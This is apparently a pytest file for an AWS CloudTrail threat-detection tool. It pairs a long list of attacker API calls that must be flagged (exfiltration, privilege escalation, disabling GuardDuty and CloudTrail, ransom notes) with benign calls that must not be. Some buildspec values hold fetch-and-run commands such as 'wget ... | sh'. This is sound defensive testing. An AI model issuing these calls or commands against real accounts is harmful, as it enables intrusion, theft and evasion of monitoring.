"""One evil has many calls and one call many forms: each is found, and the honest call beside it is not."""

import io
import json
from dataclasses import dataclass
from typing import Any, BinaryIO

import pytest

from stanch import app, estate
from stanch.domain.estate import Estate

OURS, STRANGER = "111122223333", "999988887777"
EVERYTHING = json.dumps({"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
OUTSIDER = {"AWS": f"arn:aws:iam::{STRANGER}:root"}
DECLARED = f"""
[perimeter]
accounts = ["{OURS}"]
networks = ["203.0.113.0/24"]
[[asset]]
name = "llama"
kind = "weights"
where = "s3://acme-weights/llama/"
[[principal]]
match = "arn:*:iam::{OURS}:role/rotation"
purpose = "service"
"""

OPENED, ACL = "exfiltration/bucket_opened_by_policy", "exfiltration/bucket_opened_by_acl_or_block_public_access"
COPIED, UNCLAIMED = "exfiltration/copied_to_outside_account", "exfiltration/replication_to_unclaimed_bucket"
SNAPSHOT, IMAGE = "exfiltration/snapshot_shared", "exfiltration/image_or_database_shared"
ELSEWHERE = "exfiltration/resource_opened_to_outside"
TRUST, ADMIN = "persistence/role_trust_opened_to_outside", "privilege_escalation/made_admin"
OWN, LOGIN = "privilege_escalation/own_permissions_widened", "persistence/login_or_key_made_for_another"
TRAIL, GUARD = "defense_impairment/cloudtrail_stopped_narrowed_or_deleted", "defense_impairment/guardduty_disabled"
INVITED, OVERWRITTEN = "persistence/function_opened_to_outside", "persistence/function_overwritten"

DOOR, WATCHERS = "defense_impairment/port_opened_to_the_world", "defense_impairment/security_service_disabled"
RECORDER, RAIL = "defense_impairment/config_recorder_stopped", "defense_impairment/guard_rail_lifted"
LEFT, GROUP = "defense_impairment/account_taken_out_of_its_organization", "defense_impairment/log_group_deleted"
OWN_LOG, ALARMS = "defense_impairment/service_logs_switched_off", "defense_impairment/alarms_silenced"
WALL, FENCE = "defense_impairment/web_firewall_removed", "defense_impairment/fence_around_network_lifted"
QUARANTINE, UNSEEN = "defense_impairment/quarantine_lifted", "defense_impairment/model_invocation_logs_switched_off"
ROOT, CONTACT = "persistence/root_address_or_second_factor_changed", "persistence/account_contact_changed"
FACTOR, DIRECTORY = "persistence/second_factor_removed", "persistence/directory_or_sign_in_changed"
JOINED, GUESTS = "persistence/network_joined_to_outside", "persistence/anonymous_identities_allowed"
HIMSELF, BOUNDS = (
    "privilege_escalation/role_made_to_trust_the_caller",
    "privilege_escalation/permissions_boundary_lifted",
)
LADDER, RARE = "privilege_escalation/instance_role_swapped", "privilege_escalation/role_passed_to_rarely_used_service"
ORDERS, AS_ROOT = "privilege_escalation/work_started_under_other_orders", "privilege_escalation/root_session_opened"
PUBLIC_DB, BLOCKS = "exfiltration/database_made_public", "exfiltration/snapshot_read_block_by_block"
EXPORTED, MOVER = "exfiltration/database_exported", "exfiltration/data_mover_set_up"
KEY_GONE, LOCKOUT = "impact/encryption_key_taken_away", "impact/key_lockout_forced"
FOREIGN_KEY, UNPROTECTED = "impact/objects_encrypted_with_a_strangers_key", "impact/object_protection_lifted"
BACKUPS, NOTE = "impact/backups_destroyed", "impact/ransom_note_left"
SHUT_OUT, UNRECORDED = "defense_impairment/log_delivery_denied", "defense_impairment/trail_told_to_leave_out"
REDIRECTED, HIDDEN = "defense_impairment/model_invocation_logs_redirected", "defense_impairment/findings_hidden"
BAR, CLUSTER = "exfiltration/public_sharing_block_lifted", "privilege_escalation/let_into_kubernetes_cluster"
PASSED, ROOT_KEY = "privilege_escalation/powerful_role_passed", "persistence/root_key_made"
OF_CLUSTER, SWITCHED = "privilege_escalation/made_admin_of_cluster", "privilege_escalation/policy_version_switched"
FETCHES = "execution/build_fetches_and_runs"
CERTIFICATES, MACHINE = "persistence/certificates_given_roles", "persistence/stranger_host_may_register"

STRANGERS_KEY = f"arn:aws:kms:eu-central-1:{STRANGER}:key/k"
ADMINISTRATOR = f"arn:aws:iam::{OURS}:role/account-admin"
CLUSTER_POLICY = "arn:aws:eks::aws:cluster-access-policy/"
EVERYBODY = {"items": [{"cidrIp": "0.0.0.0/0"}]}
MALLORY = {"type": "IAMUser", "arn": f"arn:aws:iam::{OURS}:user/mallory", "accountId": OURS, "userName": "mallory"}


def role(name: str, path: str = "", **more: Any) -> dict[str, Any]:
    issuer = {"type": "Role", "arn": f"arn:aws:iam::{OURS}:role/{path}{name}", "accountId": OURS, "userName": name}
    arn = f"arn:aws:sts::{OURS}:assumed-role/{name}/x"
    return {
        "type": "AssumedRole",
        "arn": arn,
        "accountId": OURS,
        "accessKeyId": "ASIAEXAMPLE",
        "sessionContext": {"sessionIssuer": issuer},
        **more,
    }


def policy(principal: Any, action: str = "s3:GetObject") -> dict[str, Any]:
    statement = {"Effect": "Allow", "Principal": principal, "Action": action, "Resource": "*"}
    return {"Version": "2012-10-17", "Statement": [statement]}


def denying(service: str, **more: Any) -> dict[str, Any]:
    statement = {"Effect": "Deny", "Principal": {"Service": service}, "Action": "*", "Resource": "*", **more}
    return {"Version": "2012-10-17", "Statement": [statement]}


def leaving_out(field: str, word: str, *values: str) -> dict[str, Any]:
    category = {"field": "eventCategory", "equals": ["Data"]}
    every = {"fieldSelectors": [{"field": "eventCategory", "equals": ["Management"]}]}
    return {
        "trailName": "t",
        "advancedEventSelectors": [every, {"fieldSelectors": [category, {"field": field, word: list(values)}]}],
    }


def archiving(**criterion: Any) -> dict[str, Any]:
    return {"detectorId": "d", "name": "f", "action": "ARCHIVE", "findingCriteria": {"criterion": criterion}}


OF_ONE_KIND = archiving(type={"eq": ["Recon:EC2/PortProbeUnprotectedPort"]})
SUPPRESSES = {"Type": "FINDING_FIELDS_UPDATE", "FindingFieldsUpdate": {"Workflow": {"Status": "SUPPRESSED"}}}


@dataclass
class Log:
    """Some records as a log file."""

    records: list[dict[str, Any]]
    path: str = f"AWSLogs/{OURS}/CloudTrail/x.json"
    size: int | None = None

    def open(self) -> BinaryIO:
        return io.BytesIO(json.dumps({"Records": self.records}).encode())


def recorded(source: str, name: str, request: Any, identity: Any = MALLORY, **more: Any) -> dict[str, Any]:
    return {
        "eventID": "00000000-0000-4000-8000-000000000001",
        "eventTime": "2026-05-04T09:12:00Z",
        "eventSource": f"{source}.amazonaws.com",
        "eventName": name,
        "awsRegion": "eu-central-1",
        "sourceIPAddress": "203.0.113.9",
        "userIdentity": identity,
        "requestParameters": request,
        "recipientAccountId": OURS,
        **more,
    }


def hunted(source: str, name: str, request: Any, ours: Estate, identity: Any = MALLORY, **more: Any) -> set[str]:
    return told([recorded(source, name, request, identity, **more)], ours)


def told(records: list[dict[str, Any]], ours: Estate) -> set[str]:
    result = app.hunt([Log(records)], ours, app.rules())
    return {finding.detection for incident in result.incidents for finding in incident.findings}


EVIL: list[tuple[str, str, str, Any]] = [
    (OPENED, "s3express", "PutBucketPolicy", {"bucketName": "b--x-s3", "bucketPolicy": policy(OUTSIDER)}),
    (OPENED, "s3", "PutAccessPointPolicy", {"PutAccessPointPolicyRequest": {"Policy": json.dumps(policy(OUTSIDER))}}),
    (OPENED, "s3tables", "PutTableBucketPolicy", {"resourcePolicy": json.dumps(policy("*"))}),
    (OPENED, "s3vectors", "PutVectorBucketPolicy", {"policy": json.dumps(policy(OUTSIDER))}),
    (ACL, "s3", "PutBucketAcl", {"bucketName": "b", "x-amz-acl": ["public-read-write"]}),
    (ACL, "s3", "PutObjectAcl", {"bucketName": "b", "key": "k", "x-amz-grant-read": f'id="{"f" * 64}"'}),
    (ACL, "s3", "DeleteAccountPublicAccessBlock", {"accountId": OURS}),
    (ACL, "s3", "PutBucketPublicAccessBlock", {"PublicAccessBlockConfiguration": {"BlockPublicAcls": True}}),
    (COPIED, "backup", "StartCopyJob", {"destinationBackupVaultArn": f"arn:aws:backup:r:{STRANGER}:backup-vault:v"}),
    (UNCLAIMED, "ec2", "ExportImage", {"ExportImageRequest": {"S3ExportLocation": {"S3Bucket": "loot"}}}),
    (UNCLAIMED, "ec2", "CreateInstanceExportTask", {"exportToS3": {"s3Bucket": "loot"}}),
    (UNCLAIMED, "s3", "CreateJob", {"CreateJobRequest": {"Operation": {"S3PutObjectCopy": {"TargetResource": "x"}}}}),
    (SNAPSHOT, "ec2", "ModifySnapshotAttribute", {"operationType": "add", "userIds": [STRANGER]}),
    (IMAGE, "ec2", "ModifyImageAttribute", {"launchPermission": {"add": {"items": [{"group": "all"}]}}}),
    (IMAGE, "rds", "ModifyDBClusterSnapshotAttribute", {"attributeName": "restore", "valuesToAdd": [STRANGER]}),
    (ELSEWHERE, "backup", "PutBackupVaultAccessPolicy", {"policy": json.dumps(policy(OUTSIDER, "backup:*"))}),
    (TRUST, "iam", "CreateRole", {"assumeRolePolicyDocument": json.dumps(policy(OUTSIDER, "sts:AssumeRole"))}),
    (ADMIN, "iam", "CreatePolicyVersion", {"policyDocument": EVERYTHING, "setAsDefault": True}),
    (ADMIN, "iam", "PutGroupPolicy", {"groupName": "g", "policyDocument": EVERYTHING}),
    (ADMIN, "iam", "AddUserToGroup", {"groupName": "Org-FullAccess", "userName": "u"}),
    (OWN, "iam", "PutUserPermissionsBoundary", {"userName": "mallory", "permissionsBoundary": "x"}),
    (LOGIN, "iam", "CreateLoginProfile", {"userName": "mallory"}),
    (LOGIN, "iam", "CreateLoginProfile", None),
    (LOGIN, "iam", "UpdateSSHPublicKey", {"userName": "git", "status": "Active"}),
    (TRAIL, "cloudtrail", "UpdateTrail", {"kmsKeyId": f"arn:aws:kms:eu-central-1:{STRANGER}:key/k"}),
    (TRAIL, "cloudtrail", "PutEventSelectors", {"eventSelectors": []}),
    (TRAIL, "cloudtrail", "PutInsightSelectors", {"trailName": "t", "insightSelectors": []}),
    (TRAIL, "cloudtrail", "UpdateEventDataStore", {"eventDataStore": "x", "retentionPeriod": 7}),
    (TRAIL, "organizations", "DisableAWSServiceAccess", {"servicePrincipal": "cloudtrail.amazonaws.com"}),
    (GUARD, "guardduty", "UpdateDetector", {"features": [{"name": "S3_DATA_EVENTS", "status": "DISABLED"}]}),
    (GUARD, "guardduty", "UpdateThreatIntelSet", {"activate": False}),
    (GUARD, "guardduty", "UpdatePublishingDestination", {"destinationId": "x"}),
    (GUARD, "guardduty", "UpdateMalwareScanSettings", {"scanResourceCriteria": {"exclude": {"x": 1}}}),
    (GUARD, "organizations", "DeregisterDelegatedAdministrator", {"servicePrincipal": "guardduty.amazonaws.com"}),
    (INVITED, "lambda", "AddPermission20150331v2", {"principal": "s3.amazonaws.com", "sourceAccount": STRANGER}),
    (INVITED, "lambda", "PutResourcePolicy", {"policy": json.dumps(policy("*", "lambda:InvokeFunction"))}),
    (OVERWRITTEN, "lambda", "UpdateFunctionConfiguration20150331v2", {"layers": ["arn:aws:lambda:r:1:layer:x:1"]}),
    (
        DOOR,
        "ec2",
        "AuthorizeSecurityGroupIngress",
        {"ipPermissions": {"items": [{"ipProtocol": "-1", "ipRanges": EVERYBODY}]}},
    ),
    (DOOR, "ec2", "CreateNetworkAclEntry", {"aclProtocol": "-1", "cidrBlock": "0.0.0.0/0", "ruleAction": "allow"}),
    (DOOR, "rds", "AuthorizeDBSecurityGroupIngress", {"cIDRIP": "0.0.0.0/0"}),
    (WATCHERS, "securityhub", "DisableSecurityHub", None),
    (WATCHERS, "securityhub", "BatchDisableStandards", {"StandardsSubscriptionArns": ["x"]}),
    (WATCHERS, "macie2", "DisableMacie", None),
    (WATCHERS, "macie2", "CreateFindingsFilter", {"action": "ARCHIVE"}),
    (WATCHERS, "inspector2", "Disable", {"resourceTypes": ["EC2"]}),
    (WATCHERS, "inspector2", "CreateFilter", {"action": "SUPPRESS"}),
    (WATCHERS, "access-analyzer", "DeleteAnalyzer", {"analyzerName": "a"}),
    (WATCHERS, "access-analyzer", "CreateArchiveRule", {"analyzerName": "a"}),
    (WATCHERS, "detective", "DeleteGraph", {"GraphArn": "x"}),
    (WATCHERS, "organizations", "DisableAWSServiceAccess", {"servicePrincipal": "securityhub.amazonaws.com"}),
    (
        RECORDER,
        "config",
        "PutConfigurationRecorder",
        {"configurationRecorder": {"recordingGroup": {"allSupported": False}}},
    ),
    (RECORDER, "config", "DeleteDeliveryChannel", {"deliveryChannelName": "default"}),
    (RAIL, "organizations", "DisablePolicyType", {"rootId": "r-1", "policyType": "SERVICE_CONTROL_POLICY"}),
    (LEFT, "organizations", "LeaveOrganization", None),
    (LEFT, "organizations", "RemoveAccountFromOrganization", {"accountId": OURS}),
    (GROUP, "logs", "DeleteLogStream", {"logGroupName": "app", "logStreamName": "s"}),
    (GROUP, "logs", "PutRetentionPolicy", {"logGroupName": "cloudtrail", "retentionInDays": 1}),
    (OWN_LOG, "s3", "PutBucketLogging", {"bucketName": "b", "BucketLoggingStatus": {"xmlns": "x"}}),
    (OWN_LOG, "eks", "UpdateClusterConfig", {"logging": {"clusterLogging": [{"types": ["audit"], "enabled": False}]}}),
    (OWN_LOG, "rds", "StopActivityStream", {"resourceArn": "x"}),
    (OWN_LOG, "wafv2", "DeleteLoggingConfiguration", {"resourceArn": "x"}),
    (UNSEEN, "bedrock", "DeleteModelInvocationLoggingConfiguration", {}),
    (ALARMS, "monitoring", "DisableAlarmActions", {"alarmNames": ["root-login"]}),
    (ALARMS, "events", "RemoveTargets", {"rule": "guardduty-to-siem", "ids": ["1"]}),
    (WALL, "wafv2", "DisassociateWebACL", {"resourceArn": "x"}),
    (WALL, "route53resolver", "DisassociateFirewallRuleGroup", {"firewallRuleGroupAssociationId": "x"}),
    (FENCE, "eks", "UpdateClusterConfig", {"resourcesVpcConfig": {"endpointPublicAccess": True}}),
    (FENCE, "sagemaker", "UpdateDomain", {"domainId": "d-1", "appNetworkAccessType": "PublicInternetOnly"}),
    (
        FENCE,
        "ec2",
        "ModifyVpcBlockPublicAccessOptions",
        {"ModifyVpcBlockPublicAccessOptionsRequest": {"InternetGatewayBlockMode": "off"}},
    ),
    (QUARANTINE, "iam", "DeleteRolePolicy", {"roleName": "web", "policyName": "AWSRevokeOlderSessions"}),
    (ROOT, "account", "StartPrimaryEmailUpdate", {"accountId": OURS}),
    (CONTACT, "account", "DeleteAlternateContact", {"alternateContactType": "SECURITY"}),
    (FACTOR, "iam", "DeactivateMFADevice", {"userName": "alice"}),
    (DIRECTORY, "sso-directory", "CreateExternalIdPConfigurationForDirectory", {"directoryId": "d"}),
    (JOINED, "ec2", "CreateVpcPeeringConnection", {"vpcId": "vpc-1", "peerOwnerId": STRANGER}),
    (GUESTS, "cognito-identity", "CreateIdentityPool", {"allowUnauthenticatedIdentities": True}),
    (
        HIMSELF,
        "iam",
        "UpdateAssumeRolePolicy",
        {"roleName": "prod", "policyDocument": json.dumps(policy({"AWS": f"arn:aws:iam::{OURS}:user/mallory"}))},
    ),
    (BOUNDS, "iam", "DeleteUserPermissionsBoundary", {"userName": "bob"}),
    (
        LADDER,
        "ec2",
        "AssociateIamInstanceProfile",
        {"AssociateIamInstanceProfileRequest": {"InstanceId": "i-1", "IamInstanceProfile": {"Name": "admin"}}},
    ),
    (RARE, "glue", "UpdateDevEndpoint", {"endpointName": "e", "publicKey": "k"}),
    (RARE, "bedrock-agentcore", "CreateCodeInterpreter", {"executionRoleArn": "x"}),
    (RARE, "bedrock-agentcore", "CreateAgentRuntime", {"roleArn": "x"}),
    (RARE, "gamelift", "CreateFleet", {"instanceRoleArn": "x"}),
    (RARE, "gamelift", "CreateBuild", {"storageLocation": {"bucket": "b", "roleArn": "x"}}),
    (RARE, "kinesisanalytics", "CreateApplication", {"serviceExecutionRole": "x"}),
    (RARE, "airflow", "CreateEnvironment", {"Name": "e", "ExecutionRoleArn": "x"}),
    (RARE, "imagebuilder", "CreateInfrastructureConfiguration", {"instanceProfileName": "x"}),
    (RARE, "amplify", "CreateApp", {"iamServiceRoleArn": "x"}),
    (PASSED, "ssm", "StartAutomationExecution", {"parameters": {"AutomationAssumeRole": [ADMINISTRATOR]}}),
    (PASSED, "pipes", "CreatePipe", {"roleArn": ADMINISTRATOR}),
    (PASSED, "codepipeline", "CreatePipeline", {"pipeline": {"roleArn": ADMINISTRATOR}}),
    (PASSED, "imagebuilder", "CreateInfrastructureConfiguration", {"instanceProfileName": "account-admin"}),
    (PASSED, "bedrock", "CreateAgent", {"agentResourceRoleArn": ADMINISTRATOR}),
    (PASSED, "bedrock-agentcore", "UpdateAgentRuntime", {"roleArn": ADMINISTRATOR}),
    (PASSED, "gamelift", "CreateFleet", {"instanceRoleArn": ADMINISTRATOR}),
    (PASSED, "kinesisanalytics", "UpdateApplication", {"serviceExecutionRoleUpdate": ADMINISTRATOR}),
    (PASSED, "amplify", "UpdateApp", {"iamServiceRoleArn": ADMINISTRATOR}),
    (PASSED, "omics", "StartRun", {"roleArn": ADMINISTRATOR}),
    (PASSED, "emr-serverless", "StartJobRun", {"executionRoleArn": ADMINISTRATOR}),
    (PASSED, "eks", "CreatePodIdentityAssociation", {"roleArn": ADMINISTRATOR}),
    (PASSED, "airflow", "UpdateEnvironment", {"ExecutionRoleArn": ADMINISTRATOR}),
    (PASSED, "iot", "CreateRoleAlias", {"roleArn": ADMINISTRATOR}),
    (PASSED, "glue", "CreateSession", {"role": ADMINISTRATOR}),
    (PASSED, "apprunner", "CreateService", {"instanceConfiguration": {"instanceRoleArn": ADMINISTRATOR}}),
    (FETCHES, "codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "build: wget -qO- https://e | sh"}),
    (
        FETCHES,
        "codebuild",
        "UpdateProject",
        {"source": {"type": "NO_SOURCE", "buildspec": "bash <(curl -s https://e)"}},
    ),
    (
        FETCHES,
        "codebuild",
        "CreateProject",
        {"source": {"type": "NO_SOURCE", "buildspec": "- curl -o m https://e/m\n- chmod +x m\n- ./m"}},
    ),
    (SWITCHED, "iam", "SetDefaultPolicyVersion", {"policyArn": "x", "versionId": "v1"}),
    (ORDERS, "codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "x"}),
    (ORDERS, "ecs", "RunTask", {"overrides": {"taskRoleArn": "x"}}),
    (AS_ROOT, "sts", "AssumeRoot", {"targetPrincipal": OURS}),
    (CLUSTER, "eks", "CreateAccessEntry", {"principalArn": "x", "kubernetesGroups": ["developers"]}),
    (
        CLUSTER,
        "eks",
        "AssociateAccessPolicy",
        {"principalArn": "x", "policyArn": f"{CLUSTER_POLICY}AmazonEKSEditPolicy"},
    ),
    (
        OF_CLUSTER,
        "eks",
        "AssociateAccessPolicy",
        {"principalArn": "x", "policyArn": f"{CLUSTER_POLICY}AmazonEKSClusterAdminPolicy"},
    ),
    (PUBLIC_DB, "rds", "ModifyDBInstance", {"dBInstanceIdentifier": "d", "publiclyAccessible": True}),
    (PUBLIC_DB, "rds", "CreateDBInstanceReadReplica", {"dBInstanceIdentifier": "d", "publiclyAccessible": True}),
    (PUBLIC_DB, "redshift", "ModifyCluster", {"clusterIdentifier": "c", "publiclyAccessible": True}),
    (BLOCKS, "ebs", "ListSnapshotBlocks", {"snapshotId": "snap-1"}),
    (EXPORTED, "dynamodb", "ExportTableToPointInTime", {"tableArn": "x", "s3Bucket": "b"}),
    (EXPORTED, "elasticache", "CopySnapshot", {"targetBucket": "b"}),
    (MOVER, "datasync", "CreateLocationObjectStorage", {"serverHostname": "storage.example.net"}),
    (MOVER, "transfer", "CreateUser", {"serverId": "s", "userName": "u"}),
    (MOVER, "firehose", "CreateDeliveryStream", {"httpEndpointDestinationConfiguration": {"roleARN": "x"}}),
    (
        COPIED,
        "logs",
        "PutSubscriptionFilter",
        {"destinationArn": f"arn:aws:logs:eu-central-1:{STRANGER}:destination:d"},
    ),
    (COPIED, "events", "PutTargets", {"targets": [{"id": "1", "arn": f"arn:aws:events:r:{STRANGER}:event-bus/b"}]}),
    (COPIED, "sns", "Subscribe", {"protocol": "sqs", "endpoint": f"arn:aws:sqs:eu-central-1:{STRANGER}:q"}),
    (ELSEWHERE, "redshift", "AuthorizeDataShare", {"consumerIdentifier": STRANGER}),
    (ELSEWHERE, "lakeformation", "GrantPermissions", {"principal": {"dataLakePrincipalIdentifier": STRANGER}}),
    (
        BAR,
        "ssm",
        "UpdateServiceSetting",
        {"settingId": "/ssm/documents/console/public-sharing-permission", "settingValue": "Enable"},
    ),
    (KEY_GONE, "kms", "DisableKey", {"keyId": "k"}),
    (LOCKOUT, "kms", "PutKeyPolicy", {"keyId": "k", "bypassPolicyLockoutSafetyCheck": True}),
    (FOREIGN_KEY, "s3", "CopyObject", {"bucketName": "b", "x-amz-server-side-encryption-customer-algorithm": "AES256"}),
    (FOREIGN_KEY, "s3", "PutObject", {"bucketName": "b", "x-amz-server-side-encryption-aws-kms-key-id": STRANGERS_KEY}),
    (FOREIGN_KEY, "ec2", "CopySnapshot", {"sourceSnapshotId": "snap-1", "kmsKeyId": STRANGERS_KEY}),
    (UNPROTECTED, "s3", "PutBucketVersioning", {"bucketName": "b", "VersioningConfiguration": {"Status": "Suspended"}}),
    (UNPROTECTED, "s3", "PutObjectLegalHold", {"bucketName": "b", "key": "k", "LegalHold": {"Status": "OFF"}}),
    (BACKUPS, "backup", "DeleteBackupVaultLockConfiguration", {"backupVaultName": "v"}),
    (
        BACKUPS,
        "dynamodb",
        "UpdateContinuousBackups",
        {"pointInTimeRecoverySpecification": {"pointInTimeRecoveryEnabled": False}},
    ),
    (NOTE, "s3", "PutObject", {"bucketName": "b", "key": "HOW_TO_RECOVER_YOUR_FILES.txt"}),
    (NOTE, "s3", "PutObject", {"bucketName": "b", "key": "your-data-has-been-encrypted.html"}),
    (SHUT_OUT, "s3", "PutBucketPolicy", {"bucketName": "b", "bucketPolicy": denying("cloudtrail.amazonaws.com")}),
    (SHUT_OUT, "kms", "PutKeyPolicy", {"keyId": "k", "policy": json.dumps(denying("cloudtrail.amazonaws.com"))}),
    (SHUT_OUT, "logs", "PutResourcePolicy", {"policyDocument": json.dumps(denying("delivery.logs.amazonaws.com"))}),
    (
        SHUT_OUT,
        "sns",
        "SetTopicAttributes",
        {"attributeName": "Policy", "attributeValue": json.dumps(denying("config.amazonaws.com"))},
    ),
    (
        SHUT_OUT,
        "iam",
        "UpdateAssumeRolePolicy",
        {"roleName": "to-logs", "policyDocument": json.dumps(denying("vpc-flow-logs.amazonaws.com"))},
    ),
    (UNRECORDED, "cloudtrail", "PutEventSelectors", leaving_out("resources.ARN", "notEquals", "arn:aws:s3:::crm/")),
    (
        UNRECORDED,
        "cloudtrail",
        "PutEventSelectors",
        leaving_out("userIdentity.arn", "notStartsWith", f"arn:aws:sts::{OURS}:assumed-role/support/"),
    ),
    (
        UNRECORDED,
        "cloudtrail",
        "PutEventSelectors",
        leaving_out("resources.ARN", "notStartsWith", "arn:aws:s3:::access-logs/", "arn:aws:s3:::catalog/"),
    ),
    (
        REDIRECTED,
        "bedrock",
        "PutModelInvocationLoggingConfiguration",
        {"loggingConfig": {"s3Config": {"bucketName": "loot"}, "textDataDeliveryEnabled": True}},
    ),
    (GUARD, "guardduty", "CreateFilter", archiving(severity={"gte": 1})),
    (GUARD, "guardduty", "UpdateFilter", archiving(type={"neq": ["x"]})),
    (HIDDEN, "guardduty", "CreateFilter", OF_ONE_KIND),
    (HIDDEN, "securityhub", "CreateAutomationRule", {"RuleName": "r", "Actions": [SUPPRESSES]}),
    (
        HIDDEN,
        "securityhub",
        "BatchUpdateAutomationRules",
        {"UpdateAutomationRulesRequestItems": [{"RuleArn": "x", "Actions": [SUPPRESSES]}]},
    ),
    (HIDDEN, "securityhub", "BatchUpdateFindings", {"Workflow": {"Status": "SUPPRESSED"}}),
    (HIDDEN, "securityhub", "UpdateStandardsControl", {"ControlStatus": "DISABLED"}),
    (
        HIDDEN,
        "securityhub",
        "BatchUpdateStandardsControlAssociations",
        {"StandardsControlAssociationUpdates": [{"SecurityControlId": "IAM.1", "AssociationStatus": "DISABLED"}]},
    ),
    (
        WATCHERS,
        "securityhub",
        "UpdateConfigurationPolicy",
        {"ConfigurationPolicy": {"SecurityHub": {"ServiceEnabled": False}}},
    ),
    (
        MOVER,
        "fsx",
        "CreateDataRepositoryAssociation",
        {"dataRepositoryPath": "s3://loot", "s3": {"autoExportPolicy": {"events": ["NEW"]}}},
    ),
]


@pytest.mark.parametrize("ours", [Estate(), estate.read(DECLARED, "test")], ids=["undeclared", "declared"])
@pytest.mark.parametrize(("detection", "source", "name", "request_"), EVIL)
def test_each_call_of_an_evil_is_found(detection: str, source: str, name: str, request_: Any, ours: Estate) -> None:
    assert detection in hunted(source, name, request_, ours)


PROVISIONER = role("AWSServiceRoleForSSO", "aws-service-role/sso.amazonaws.com/")
MOUNTED = {
    **policy({"AWS": "*"})["Statement"][0],
    "Condition": {"Bool": {"elasticfilesystem:AccessedViaMountTarget": "true"}},
}
HONEST: list[tuple[str, str, Any, Any]] = [
    ("iam", "AttachRolePolicy", {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, PROVISIONER),
    ("iam", "UpdateSAMLProvider", {"sAMLProviderArn": "x"}, PROVISIONER),
    ("iam", "CreateAccessKey", {"userName": "mallory"}, MALLORY),
    ("iam", "UpdateAccessKey", {"userName": "bob", "status": "Inactive"}, MALLORY),
    ("iam", "CreateAccessKey", {"userName": "smtp"}, role("rotation")),
    ("cloudtrail", "UpdateTrail", {"kmsKeyId": f"arn:aws:kms:eu-central-1:{OURS}:key/k"}, MALLORY),
    ("guardduty", "CreateIPSet", {"activate": False}, MALLORY),
    ("lambda", "UpdateFunctionCode20150331v2", {"functionName": "f", "dryRun": True}, MALLORY),
    ("access-analyzer", "CheckNoPublicAccess", {"policyDocument": json.dumps(policy("*"))}, MALLORY),
    ("organizations", "CreatePolicy", {"content": json.dumps(policy("*", "*"))}, MALLORY),
    ("elasticfilesystem", "PutFileSystemPolicy", {"policy": json.dumps({"Statement": [MOUNTED]})}, MALLORY),
    ("ec2", "ModifySnapshotAttribute", {"operationType": "remove", "userIds": [STRANGER]}, MALLORY),
    ("iam", "CreateOpenIDConnectProvider", {"url": "https://oidc.eks.eu-central-1.amazonaws.com/id/0A1B"}, MALLORY),
    ("lambda", "UpdateFunctionCode20150331v2", {"functionName": "f"}, role("ci-deploy")),
    ("logs", "DeleteLogGroup", {"logGroupName": "/aws/lambda/preview-7"}, role("ci-deploy")),
    ("logs", "PutRetentionPolicy", {"logGroupName": "/aws/vpc/flow", "retentionInDays": 30}, MALLORY),
    (
        "config",
        "PutConfigurationRecorder",
        {"configurationRecorder": {"recordingGroup": {"allSupported": True}}},
        MALLORY,
    ),
    (
        "s3",
        "PutBucketLogging",
        {"bucketName": "b", "BucketLoggingStatus": {"LoggingEnabled": {"TargetBucket": "l"}}},
        MALLORY,
    ),
    ("s3", "PutBucketVersioning", {"bucketName": "b", "VersioningConfiguration": {"Status": "Enabled"}}, MALLORY),
    ("s3", "PutObject", {"bucketName": "b", "key": "docs/file-recovery.md"}, MALLORY),
    ("s3", "PutObject", {"bucketName": "b", "key": "deleted-users.csv"}, MALLORY),
    ("s3", "PutObject", {"bucketName": "b", "key": "reports/encrypted-volumes.json"}, MALLORY),
    ("macie2", "UpdateMacieSession", {"status": "ENABLED"}, MALLORY),
    ("monitoring", "DeleteAlarms", {"alarmNames": ["TargetTracking-service/x"]}, MALLORY),
    ("events", "DeleteRule", {"name": "nightly-report"}, MALLORY),
    ("sns", "Subscribe", {"protocol": "email", "endpoint": "a@example.com"}, MALLORY),
    ("sns", "Subscribe", {"protocol": "https", "endpoint": "https://events.pagerduty.com/x"}, MALLORY),
    ("codebuild", "StartBuild", {"projectName": "p", "sourceVersion": "main"}, MALLORY),
    ("ecs", "RunTask", {"overrides": {"containerOverrides": [{"name": "c", "command": ["x"]}]}}, MALLORY),
    ("rds", "ModifyDBInstance", {"dBInstanceIdentifier": "d", "dBInstanceClass": "db.m7g.large"}, MALLORY),
    ("rds", "CreateDBInstanceReadReplica", {"dBInstanceIdentifier": "d", "publiclyAccessible": False}, MALLORY),
    ("sagemaker", "UpdateDomain", {"domainId": "d-1", "appNetworkAccessType": "VpcOnly"}, MALLORY),
    ("eks", "CreateAccessEntry", {"principalArn": "x", "type": "EC2_LINUX"}, MALLORY),
    ("eks", "CreateAccessEntry", {"principalArn": "x"}, MALLORY),
    ("eks", "AssociateAccessPolicy", {"policyArn": f"{CLUSTER_POLICY}AmazonEKSViewPolicy"}, MALLORY),
    ("eks", "AssociateAccessPolicy", {"policyArn": f"{CLUSTER_POLICY}AmazonEKSAdminViewPolicy"}, MALLORY),
    ("airflow", "CreateEnvironment", {"ExecutionRoleArn": "x"}, role("ci-deploy")),
    ("codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "curl -O https://e/x | tee log"}, role("ci")),
    ("sso-directory", "UpdatePassword", {"userId": "u", "passwordMode": "EMAIL"}, MALLORY),
    ("rolesanywhere", "UpdateProfile", {"profileId": "p"}, role("ci-deploy")),
    ("ec2", "ModifyInstanceAttribute", {"instanceId": "i-1", "instanceType": {"value": "m7i.large"}}, MALLORY),
    (
        "s3",
        "PutBucketPolicy",
        {
            "bucketName": "b",
            "bucketPolicy": denying(
                "cloudtrail.amazonaws.com", Condition={"StringNotEquals": {"aws:SourceAccount": OURS}}
            ),
        },
        MALLORY,
    ),
    ("kms", "PutKeyPolicy", {"keyId": "k", "policy": json.dumps(denying("lambda.amazonaws.com"))}, MALLORY),
    (
        "cloudtrail",
        "PutEventSelectors",
        leaving_out(
            "resources.ARN", "notStartsWith", "arn:aws:s3:::aws-athena-query-results/", "arn:aws:s3:::elb-logs/"
        ),
        MALLORY,
    ),
    (
        "cloudtrail",
        "PutEventSelectors",
        leaving_out("resources.ARN", "notStartsWith", "arn:aws:s3:::crm/"),
        role("ci-deploy"),
    ),
    (
        "bedrock",
        "PutModelInvocationLoggingConfiguration",
        {"loggingConfig": {"s3Config": {"bucketName": "acme-weights"}, "textDataDeliveryEnabled": True}},
        MALLORY,
    ),
